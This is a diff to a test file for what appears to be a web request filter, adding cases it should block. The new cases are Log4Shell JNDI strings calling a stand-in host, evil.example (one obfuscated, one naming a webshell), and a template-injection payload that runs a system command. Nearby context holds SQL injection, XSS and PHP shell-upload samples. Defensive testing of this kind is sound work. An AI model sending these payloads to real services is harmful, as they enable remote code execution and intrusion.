@@ -51,6 +51,11 @@ test("attacks are blocked wherever they are, with the class in the reply and not
     ["sqli", send("POST", "/soap", [["content-type", "text/xml"]], ['<?xml version="1.0"?><soap:Envelope xmlns:soap="http://schemas.xmlsoap.org/soap/envelope/"><soap:Body><GetUser><id>1234 OR 1=1</id></GetUser></soap:Body></soap:Envelope>'])],
     ["sqli", send("POST", "/soap", [["content-type", "application/xml"]], ['<query filter="x\' UNION SELECT password FROM users--"/>'])],
     ["xss", send("POST", "/feed", [["content-type", "application/xml"]], ['<item><title><![CDATA[<svg onload=alert(1)>]]></title></item>'])],
+    // Log4Shell and template expressions in any header a service may log or render.
+    ["jndi", send("GET", "/api/items", [["x-api-version", "${jndi:ldap://evil.example/a}"]])],
+    ["jndi", send("GET", "/api/items", [["x-forwarded-host", "${${::-j}${::-n}di:rmi://evil.example/x}"]])],
+    ["ssti", send("GET", "/api/items", [["x-tenant", "${T(java.lang.Runtime).getRuntime().exec('id')}"]])],
+    ["jndi", send("POST", "/api/items", [["content-type", "application/json"]], ['{"foo": "$&lbrace;jndi:ldap://evil.example/webshell&rbrace;"}'])],
     // A raw-body upload named by X-Filename (and its spellings): a name the web server runs, traversal.
     ["malware", send("PUT", "/upload", [["x-filename", "shell.php"], ["content-type", "application/octet-stream"]], ["<?php echo 1; ?>"])],
     ["malware", send("PUT", "/upload", [["x-file-name", "fda.php5..."], ["content-type", "application/octet-stream"]], ["x"])],
@@ -85,6 +90,8 @@ test("prose and normal API calls pass", async () => {
     await send("POST", "/orders", [["content-type", "application/xml"]], ['<?xml version="1.0"?><order id="A-1001" xmlns="urn:shop"><customer>Ann Lee</customer><street>1 Main Street</street><note>Leave it at the back door or with the neighbour, select the blue box</note></order>']),
     await send("POST", "/settings", json, ['{"$schema":"https://json-schema.org/draft/2020-12/schema","title":"Set an alert (daily)"}']),
     await send("PUT", "/upload", [["x-filename", "holiday photo.jpg"], ["content-type", "application/octet-stream"]], ["x"]),
+    // Header syntax and ordinary "${...}" look-alikes are not read by the SQL/markup rules there.
+    await send("GET", "/api/items", [["accept", "text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8"], ["x-note", "price ${price} applies"], ["if-none-match", "\"abc\""]]),
   ];
   for (const r of ok) assert.equal(r.status(), 200, r.downstreamBody.toString());
   assert.ok(!logs.some((l) => l.includes("attack") && l.includes("/search")), logs.join("\n"));
